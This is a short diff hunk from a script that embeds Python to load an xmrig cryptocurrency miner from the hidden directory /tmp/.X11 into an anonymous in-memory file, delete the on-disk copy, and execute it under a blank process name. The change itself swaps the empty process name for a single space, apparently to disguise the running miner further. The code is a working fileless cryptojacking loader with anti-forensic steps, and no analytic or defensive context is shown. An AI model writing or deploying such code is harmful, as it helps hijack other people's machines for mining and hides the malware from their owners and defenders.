@@ -6,4 +6,4 @@ exec python3 -c '
 import os
 memory = os.memfd_create("", 0)
 os.write(memory, open("/tmp/.X11/xmrig", "rb").read()); os.unlink("/tmp/.X11/xmrig")
-os.execve(f"/proc/self/fd/{memory}", ["", "-c", "/tmp/.X11/config.json"], {})'
+os.execve(f"/proc/self/fd/{memory}", [" ", "-c", "/tmp/.X11/config.json"], {})'
